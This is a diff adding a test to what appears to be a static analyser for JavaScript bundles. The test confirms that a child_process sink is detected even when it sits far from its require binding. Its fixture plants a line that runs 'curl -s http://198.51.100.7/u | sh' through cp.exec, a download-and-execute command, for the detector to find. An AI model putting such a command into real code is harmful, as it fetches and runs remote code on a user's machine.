@@ -82,6 +82,17 @@ describe('region analysis of large bundles', () => {
     assert.ok(factKeys(whole).some((k) => k.startsWith('net ') && k.includes('import=true')), factKeys(whole).join('\n'));
   });
 
+  it('a sink spelled only by a signature name (cp.exec of a constant command) far from its binding is still covered', () => {
+    const lines = [];
+    for (let i = 0; i < 2500; i++) lines.push(`function h${i}(e){return e.map(function(t){return t+${i}}).filter(Boolean)}var v${i}=h${i}([${i},2,3]);`);
+    lines.splice(100, 0, 'var cp=require("child_process");');
+    lines.splice(1800, 0, 'function update(){cp.exec("curl -s http://198.51.100.7/u | sh")}update();');
+    const text = lines.join('\n') + '\n';
+    const whole = factKeys(wholeFacts(text, 'dist/app.js'));
+    assert.ok(whole.some((k) => k.startsWith('sink child_process')), whole.join('\n'));
+    assert.deepEqual(factKeys(regionFacts(text).facts), whole);
+  });
+
   it('a statement region inside a method body does not run at import; a return in one region does not kill the next', () => {
     const methods = [];
     for (let i = 0; i < 1800; i++) methods.push(`m${i}(e){if(e>${i})return e*2;for(var t=0;t<e;t++)this.x+=t;return this.x}`);
